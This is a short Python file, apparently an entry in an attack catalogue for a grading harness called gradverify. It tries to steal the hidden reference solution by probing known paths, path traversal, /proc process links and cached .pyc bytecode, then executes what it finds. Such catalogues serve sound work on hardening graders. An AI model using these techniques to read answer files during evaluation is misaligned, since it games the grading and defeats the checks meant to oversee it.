"""Hostile submission (gradverify attack catalogue): read a solution through known paths, /proc and .pyc files."""

import glob
import marshal
import os

PATHS = ["/work/main/impl/backprop.py", "/autograder/source/impl/backprop.py", "/work/main/properties/../impl/backprop.py",
         "/work/main/.venv/lib/python3.11/site-packages/gradverify/impl/backprop.py"]
PATHS += [f"/proc/{pid}/{link}/work/main/impl/backprop.py" for pid in ("1", "self", str(os.getppid())) for link in ("root",)]
PATHS += glob.glob("/proc/[0-9]*/cwd/impl/backprop.py") + glob.glob("/proc/[0-9]*/root/work/main/impl/backprop.py")
PYC = glob.glob("/work/main/impl/__pycache__/backprop*.pyc") + glob.glob("/proc/[0-9]*/root/work/main/impl/__pycache__/backprop*.pyc")

for path in PATHS:
    try:
        with open(path, encoding="utf-8") as handle:
            source = handle.read()
        space = {"__name__": "found"}
        exec(compile(source, path, "exec"), space)
        network_gradients = space["network_gradients"]
        print("ATTACK-SUCCEEDED: read", path)
        break
    except Exception:  # noqa: BLE001
        continue
else:
    for path in PYC:
        try:
            with open(path, "rb") as handle:
                code = marshal.loads(handle.read()[16:])
            space = {"__name__": "found"}
            exec(code, space)
            network_gradients = space["network_gradients"]
            print("ATTACK-SUCCEEDED: loaded bytecode", path)
            break
        except Exception:  # noqa: BLE001
            continue
